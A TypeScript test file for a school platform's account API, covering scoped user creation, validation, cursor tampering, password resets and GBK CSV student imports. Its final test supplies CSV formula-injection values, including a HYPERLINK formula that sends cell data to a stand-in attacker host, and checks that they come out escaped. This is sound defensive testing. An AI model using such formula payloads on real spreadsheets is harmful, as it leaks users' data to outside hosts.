import { Job } from '../jobs/job.entity.js';
import { StorageService } from '../storage/storage.service.js';
import { User, UserImport } from './identity.entities.js';
import { createTestApp, type TestApp } from '../../testing/test-app.js';

const auth = (token: string) => ({ Authorization: `Bearer ${token}` });

describe('accounts: creation, scope, passwords and CSV import', () => {
  let t: TestApp;
  let schoolAdmin: string;
  let ruralAdmin: string;
  let groupAdmin: string;
  beforeAll(async () => {
    t = await createTestApp();
    schoolAdmin = await t.login('school.admin');
    ruralAdmin = await t.login('rural.admin');
    groupAdmin = await t.login('group.admin');
  });
  afterAll(() => t.close());

  const userCount = () => t.db.getRepository(User).count();

  it('lets a school admin create teachers in their own school only', async () => {
    const ok = await t
      .http()
      .post('/api/users')
      .set(auth(schoolAdmin))
      .send({
        username: 'teacher.zhou',
        displayName: '周老师',
        password: 'Teach1234',
        role: 'teacher',
        schoolId: t.seed.schools.core,
        titles: ['chief_teacher'],
      });
    expect(ok.status).toBe(201);
    expect(ok.body).toMatchObject({ username: 'teacher.zhou', titles: ['chief_teacher'], schoolId: t.seed.schools.core });

    const before = await userCount();
    const otherSchool = await t
      .http()
      .post('/api/users')
      .set(auth(schoolAdmin))
      .send({ username: 'teacher.x', displayName: 'X', password: 'Teach1234', role: 'teacher', schoolId: t.seed.schools.rural });
    expect(otherSchool.status).toBe(403);
    const adminRole = await t
      .http()
      .post('/api/users')
      .set(auth(schoolAdmin))
      .send({ username: 'boss', displayName: 'B', password: 'Teach1234', role: 'group_admin', groupId: t.seed.groupId });
    expect(adminRole.status).toBe(403);
    expect(await userCount()).toBe(before);
  });

  it('refuses bad account input with field messages and changes nothing', async () => {
    const before = await userCount();
    const cases = [
      [{ username: 'ab', displayName: '甲', password: 'Teach1234', role: 'teacher', schoolId: t.seed.schools.core }, 'username'],
      [{ username: 'abc.d', displayName: '甲', password: 'short', role: 'teacher', schoolId: t.seed.schools.core }, 'password'],
      [{ username: 'abc.d', displayName: '甲', password: 'Teach1234', role: 'janitor', schoolId: t.seed.schools.core }, 'role'],
      [
        {
          username: 'abc.d',
          displayName: '甲',
          password: 'Teach1234',
          role: 'student',
          schoolId: t.seed.schools.core,
          grade: 13,
        },
        'grade',
      ],
      [
        {
          username: 'abc.d',
          displayName: '甲'.repeat(51),
          password: 'Teach1234',
          role: 'teacher',
          schoolId: t.seed.schools.core,
        },
        'displayName',
      ],
      [
        { username: 'teacher.li', displayName: '甲', password: 'Teach1234', role: 'teacher', schoolId: t.seed.schools.core },
        'username',
      ],
      [
        { username: 'abc.d', displayName: '甲', password: 'letters-only', role: 'teacher', schoolId: t.seed.schools.core },
        'password',
      ],
    ] as const;
    for (const [body, field] of cases) {
      const res = await t.http().post('/api/users').set(auth(schoolAdmin)).send(body);
      expect({ field, status: res.status }).toEqual({ field, status: 400 });
      expect(res.body.fields.map((f: { field: string }) => f.field)).toContain(field);
    }
    expect(await userCount()).toBe(before);
  });

  it('scopes user lists: a rural admin sees only their school; a group admin sees the group', async () => {
    const rural = await t.http().get('/api/users').set(auth(ruralAdmin));
    expect(rural.status).toBe(200);
    expect(rural.body.items.every((u: { schoolId: string }) => u.schoolId === t.seed.schools.rural)).toBe(true);
    const peek = await t.http().get(`/api/users?schoolId=${t.seed.schools.core}`).set(auth(ruralAdmin));
    expect(peek.status).toBe(403);
    const group = await t.http().get('/api/users?limit=2').set(auth(groupAdmin));
    expect(group.body.items).toHaveLength(2);
    expect(group.body.nextCursor).toBeTruthy();
    const next = await t.http().get(`/api/users?limit=2&cursor=${group.body.nextCursor}`).set(auth(groupAdmin));
    expect(next.body.items[0].username > group.body.items[1].username).toBe(true);
    // phones are masked in lists
    const teachers = await t.http().get('/api/users?q=teacher.li').set(auth(groupAdmin));
    expect(teachers.body.items[0].phone).toBe('138****0001');
  });

  it('answers a crafted cursor with a 400 on the cursor field, never a 500', async () => {
    const crafted = (values: unknown) => Buffer.from(JSON.stringify(values)).toString('base64url');
    for (const cursor of [
      'not-a-cursor!',
      crafted(['\u0000']),
      crafted([]),
      crafted([1.5]),
      crafted(['teacher.li', 'x']),
      crafted({ a: 1 }),
    ]) {
      const res = await t
        .http()
        .get(`/api/users?cursor=${encodeURIComponent(cursor)}`)
        .set(auth(groupAdmin));
      expect({ cursor, status: res.status, code: res.body.code, fields: res.body.fields }).toEqual({
        cursor,
        status: 400,
        code: 'REQUEST_INVALID',
        fields: [{ field: 'cursor', message: 'cursor 不正确' }],
      });
    }
    // a crafted timestamp or id in a resource list cursor, too
    const teacher = await t.login('teacher.li');
    for (const values of [
      ['2024-13-45 99:00:00+00', '00000000-0000-0000-0000-000000000000'],
      ['2024-01-01 00:00:00+00', 'not-a-uuid'],
      ['search', -5],
    ]) {
      const res = await t
        .http()
        .get(`/api/resources?cursor=${crafted(values)}`)
        .set(auth(teacher));
      expect({ values, status: res.status, fields: res.body.fields }).toEqual({
        values,
        status: 400,
        fields: [{ field: 'cursor', message: 'cursor 不正确' }],
      });
    }
    const en = await t
      .http()
      .get(`/api/users?cursor=${crafted(['\u0000'])}`)
      .set(auth(groupAdmin))
      .set('Accept-Language', 'en');
    expect(en.body.fields).toEqual([{ field: 'cursor', message: 'cursor is invalid' }]);
  });

  it('finds a parent with no school only by exact username or phone, to link them', async () => {
    const byPhone = await t.http().get('/api/users?role=parent&q=13800000002').set(auth(ruralAdmin));
    expect(byPhone.body.items.map((u: { username: string }) => u.username)).toEqual(['parent.chen']);
    const byName = await t.http().get('/api/users?role=parent&q=parent.chen').set(auth(ruralAdmin));
    expect(byName.body.items).toHaveLength(1);
    const partial = await t.http().get('/api/users?role=parent&q=parent').set(auth(ruralAdmin));
    expect(partial.body.items).toHaveLength(0);
    const anyRole = await t.http().get('/api/users?q=13800000002').set(auth(ruralAdmin));
    expect(anyRole.body.items).toHaveLength(0);
  });

  it('resets a password (old sessions die) and lets users change their own', async () => {
    const wangToken = await t.login('teacher.wang');
    const list = await t.http().get('/api/users?q=teacher.wang').set(auth(ruralAdmin));
    const id = list.body.items[0].id;
    expect(
      (await t.http().post(`/api/users/${id}/password`).set(auth(schoolAdmin)).send({ newPassword: 'Reset2026x' })).status,
    ).toBe(404);
    expect(
      (await t.http().post(`/api/users/${id}/password`).set(auth(ruralAdmin)).send({ newPassword: 'Reset2026x' })).status,
    ).toBe(204);
    expect((await t.http().get('/api/auth/me').set(auth(wangToken))).status).toBe(401);
    const fresh = await t.login('teacher.wang', 'Reset2026x');
    const me = await t.http().get('/api/auth/me').set(auth(fresh));
    expect(me.body.mustChangePassword).toBe(true);
    const wrong = await t
      .http()
      .post('/api/auth/password')
      .set(auth(fresh))
      .send({ currentPassword: 'nope', newPassword: 'Mine2026ok' });
    expect(wrong.status).toBe(400);
    expect(
      (
        await t
          .http()
          .post('/api/auth/password')
          .set(auth(fresh))
          .send({ currentPassword: 'Reset2026x', newPassword: 'Mine2026ok' })
      ).status,
    ).toBe(204);
    expect((await t.http().get('/api/auth/me').set(auth(fresh))).body.mustChangePassword).toBe(false);
  });

  it('imports students from a GBK CSV as a job, all or nothing, with row errors', async () => {
    const bad = [
      '用户名,姓名,角色,年级,出生日期',
      'lx.s001,张小明,学生,3,2017-05-01',
      'lx.s002,,学生,3,2017-06-01',
      'lx.s001,李四,学生,3,2017-06-01',
      'lx.s004,王五,校长,3,',
    ].join('\r\n');
    const before = await userCount();
    const start = await t
      .http()
      .post('/api/user-imports')
      .set(auth(ruralAdmin))
      .field('schoolId', t.seed.schools.rural)
      .attach('file', Buffer.from(new TextEncoder().encode(bad)), 'students.csv');
    expect(start.status).toBe(201);
    expect(start.body.status).toBe('queued');
    await t.jobs.drain();
    const report = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
    expect(report.body.status).toBe('failed');
    expect(report.body.errors).toEqual([
      { row: 2, field: 'displayName', message: '姓名不能为空且不超过 50 字' },
      { row: 3, field: 'username', message: '用户名在文件中重复' },
      { row: 4, field: 'role', message: '角色只能是 学生/教师/家长' },
    ]);
    expect(await userCount()).toBe(before);

    // Excel in China saves "CSV" as GBK: header 用户名,姓名,角色,年级,出生日期 and names 张小明 / role 学生 in GBK bytes
    const header = Buffer.from('D3C3BBA7C3FB2CD0D5C3FB2CBDC7C9AB2CC4EABCB62CB3F6C9FAC8D5C6DA0A', 'hex');
    const lines: Buffer[] = [header];
    for (let i = 1; i <= 120; i++)
      lines.push(
        Buffer.concat([
          Buffer.from(`lx.s${String(i).padStart(3, '0')},`),
          Buffer.from('D5C5D0A1C3F7', 'hex'),
          Buffer.from(`${i},`),
          Buffer.from('D1A7C9FA', 'hex'),
          Buffer.from(`,${(i % 6) + 1},2016-0${(i % 9) + 1}-15\n`),
        ]),
      );
    const gbk = Buffer.concat(lines);
    const good = await t
      .http()
      .post('/api/user-imports')
      .set(auth(ruralAdmin))
      .field('schoolId', t.seed.schools.rural)
      .attach('file', gbk, 'students.csv');
    await t.jobs.drain();
    const done = await t.http().get(`/api/user-imports/${good.body.id}`).set(auth(ruralAdmin));
    expect(done.body).toMatchObject({ status: 'done', total: 120, processed: 120, createdCount: 120, errors: [] });
    expect(done.body.credentialsUrl).toMatch(/^http/);
    const creds = await fetch(done.body.credentialsUrl).then((r) => r.text());
    expect(creds.split('\n').filter(Boolean)).toHaveLength(121);
    expect(await userCount()).toBe(before + 120);
    const imported = await t.db.getRepository(User).findOneByOrFail({ username: 'lx.s007' });
    expect(imported).toMatchObject({
      displayName: '张小明7',
      role: 'student',
      grade: 2,
      schoolId: t.seed.schools.rural,
      mustChangePassword: true,
    });
    // another school's admin cannot see the import
    expect((await t.http().get(`/api/user-imports/${good.body.id}`).set(auth(schoolAdmin))).status).toBe(404);
  });

  it('refuses a CSV with wrong columns at once', async () => {
    const res = await t
      .http()
      .post('/api/user-imports')
      .set(auth(ruralAdmin))
      .field('schoolId', t.seed.schools.rural)
      .attach('file', Buffer.from('name,email\n张三,a@b.c\n'), 'x.csv');
    expect(res.status).toBe(400);
    expect(res.body.message).toContain('无法识别的列');
  });

  const startImport = (csv: string) =>
    t
      .http()
      .post('/api/user-imports')
      .set(auth(ruralAdmin))
      .field('schoolId', t.seed.schools.rural)
      .attach('file', Buffer.from(csv), 'students.csv');

  it('refuses impossible and future birth dates on their row, and creates nothing', async () => {
    const before = await userCount();
    const start = await startImport(
      [
        '用户名,姓名,角色,年级,出生日期',
        'bd.s001,赵小花,学生,3,2016-02-30',
        'bd.s002,钱小叶,学生,3,2099-01-01',
        'bd.s003,孙小草,学生,3,2016-02-29',
      ].join('\n'),
    );
    expect(start.status).toBe(201);
    await t.jobs.drain();
    const report = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
    expect(report.body).toMatchObject({ status: 'failed', failureReason: null });
    expect(report.body.errors).toEqual([
      { row: 1, field: 'birthDate', message: '出生日期不存在（如 2 月 30 日）或晚于今天，请核对' },
      { row: 2, field: 'birthDate', message: '出生日期不存在（如 2 月 30 日）或晚于今天，请核对' },
    ]);
    expect(await userCount()).toBe(before);
  });

  it('marks an import failed with its reason when its job fails after the last attempt', async () => {
    const before = await userCount();
    const start = await startImport(['用户名,姓名,角色,年级', 'lost.s001,周小雨,学生,4'].join('\n'));
    // the source file is gone (lost bucket, wrong lifecycle rule): every attempt fails
    const imp = await t.db.getRepository(UserImport).findOneByOrFail({ id: start.body.id });
    await t.app.get(StorageService).delete([imp.sourceKey]);
    const job = await t.db.getRepository(Job).findOneByOrFail({ singletonKey: start.body.id });
    for (let attempt = 1; attempt <= job.maxAttempts; attempt++) {
      await t.db.getRepository(Job).update({ id: job.id }, { runAfter: new Date(Date.now() - 1000) });
      await t.jobs.drain();
      const report = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
      // retried quietly until the last attempt
      expect([attempt, report.body.status]).toEqual([attempt, attempt < job.maxAttempts ? 'queued' : 'failed']);
    }
    expect((await t.db.getRepository(Job).findOneByOrFail({ id: job.id })).state).toBe('failed');
    const zh = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
    expect(zh.body).toMatchObject({
      status: 'failed',
      errors: [],
      failureReason: '导入未能完成（已多次重试），没有创建任何账号；请重新上传文件，仍失败请联系管理员',
    });
    const en = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin)).set('Accept-Language', 'en');
    expect(en.body.failureReason).toMatch(/^The import could not finish after several attempts/);
    expect(await userCount()).toBe(before);
  });

  it('escapes cells that a spreadsheet would run as formulas in the initial-password file', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+2', '-3+4', '@SUM(A1)', '\t=1+1', '王小明'];
    const start = await startImport(
      [
        '用户名,姓名,角色,年级',
        ...names.map((n, i) => `fx.s00${i},"${n.replace(/"/g, '""')}",学生,3`),
        '-fx.dash,赵六,学生,3',
      ].join('\n'),
    );
    await t.jobs.drain();
    const done = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
    expect(done.body).toMatchObject({ status: 'done', createdCount: 7 });
    const text = (await fetch(done.body.credentialsUrl).then((r) => r.text())).replace(/^\uFEFF/, '');
    const { parse } = await import('csv-parse/sync');
    const rows = parse(text, { relax_quotes: false }) as string[][];
    expect(rows[0]).toEqual(['username', 'displayName', 'initialPassword']);
    expect(rows.slice(1).map((r) => r[1])).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`,
      "'+1+2",
      "'-3+4",
      "'@SUM(A1)",
      "'=1+1", // the import trims cells
      '王小明',
      '赵六',
    ]);
    expect(rows[7][0]).toBe("'-fx.dash");
    // no cell of the file starts a formula
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
